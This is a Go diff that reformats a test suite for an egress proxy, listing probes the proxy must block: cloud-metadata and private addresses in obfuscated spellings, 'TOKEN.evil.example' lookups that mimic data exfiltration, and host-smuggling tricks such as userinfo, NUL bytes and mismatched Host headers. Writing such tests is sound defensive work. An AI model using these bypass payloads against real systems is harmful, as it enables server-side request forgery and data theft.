@@ -11,17 +11,27 @@ func doorEntries() []Entry {
 	open := []string{"open-door"}
 	return []Entry{
 		doorway{
-			Entry:  Entry{ID: "E1-allowed", Quick: true, Title: "a step with a network reaches what is allowed, and not another host", Weak: open},
-			knocks: []knock{get("other-host", "other.quavon.example"), tunnel("other-host-tls", "other.quavon.example:443"), get("no-dot", "allowedXquavon.example")},
+			Entry: Entry{
+				ID: "E1-allowed", Quick: true, Weak: open,
+				Title: "a step with a network reaches what is allowed, and not another host",
+			},
+			knocks: []knock{
+				get("other-host", "other.quavon.example"), tunnel("other-host-tls", "other.quavon.example:443"),
+				get("no-dot", "allowedXquavon.example"),
+			},
 		}.entry(),
 		doorway{
-			Entry:  Entry{ID: "E2-door", Quick: true, Title: "no metadata service and no private address is reached through the door", Weak: open},
+			Entry: Entry{
+				ID: "E2-door", Quick: true, Weak: open,
+				Title: "no metadata service and no private address is reached through the door",
+			},
 			knocks: metadataKnocks(),
 		}.entry(),
 		doorway{
 			Entry: Entry{ID: "E7-door", Title: "no name is looked up through the door that isn't allowed", Weak: open},
 			knocks: []knock{
-				get("name-plain", "TOKEN.evil.example"), tunnel("name-tunnel", "TOKEN.evil.example:443"), tunnel("name-dot", "TOKEN.evil.example.:443"),
+				get("name-plain", "TOKEN.evil.example"), tunnel("name-tunnel", "TOKEN.evil.example:443"),
+				tunnel("name-dot", "TOKEN.evil.example.:443"),
 				tunnel("name-below", "TOKEN."+allowedHost+":443"), socksName("name-socks", "TOKEN.evil.example"),
 			},
 		}.entry(),
@@ -32,9 +42,15 @@ func doorEntries() []Entry {
 	}
 }
 
+// literals are addresses as a client may spell them.
+var literals = []string{
+	"169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "127.0.0.1", "[::1]", "10.1.2.3", "0xa9fea9fe", "2852039166",
+	"0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
+}
+
 func metadataKnocks() []knock {
 	var list []knock
-	for i, a := range []string{"169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "127.0.0.1", "[::1]", "10.1.2.3", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]"} {
+	for i, a := range literals {
 		list = append(list, get(fmt.Sprintf("literal-%d", i), a), tunnel(fmt.Sprintf("literal-tunnel-%d", i), a+":443"))
 	}
 	for name := range forbidden {
@@ -54,7 +70,8 @@ func tricks() []knock {
 	host := "Host: " + allowedHost
 	return []knock{
 		tunnel("port-ssh", allowedHost+":22"), tunnel("port-none", allowedHost), tunnel("port-sign", allowedHost+":+443"),
-		tunnel("user", allowedHost+"@evil.example:443"), tunnel("dots", allowedHost+"..:443"), tunnel("nul", allowedHost+"\x00.evil.example:443"),
+		tunnel("user", allowedHost+"@evil.example:443"), tunnel("dots", allowedHost+"..:443"),
+		tunnel("nul", allowedHost+"\x00.evil.example:443"),
 		tunnel("wide-dot", "allowed\uff0equavon.example:443"),
 		line("host-differs", "GET http://"+allowedHost+"/TOKEN HTTP/1.1", "Host: evil.example"),
 		line("connect-host-differs", "CONNECT "+allowedHost+":443 HTTP/1.1", "Host: evil.example:443"),
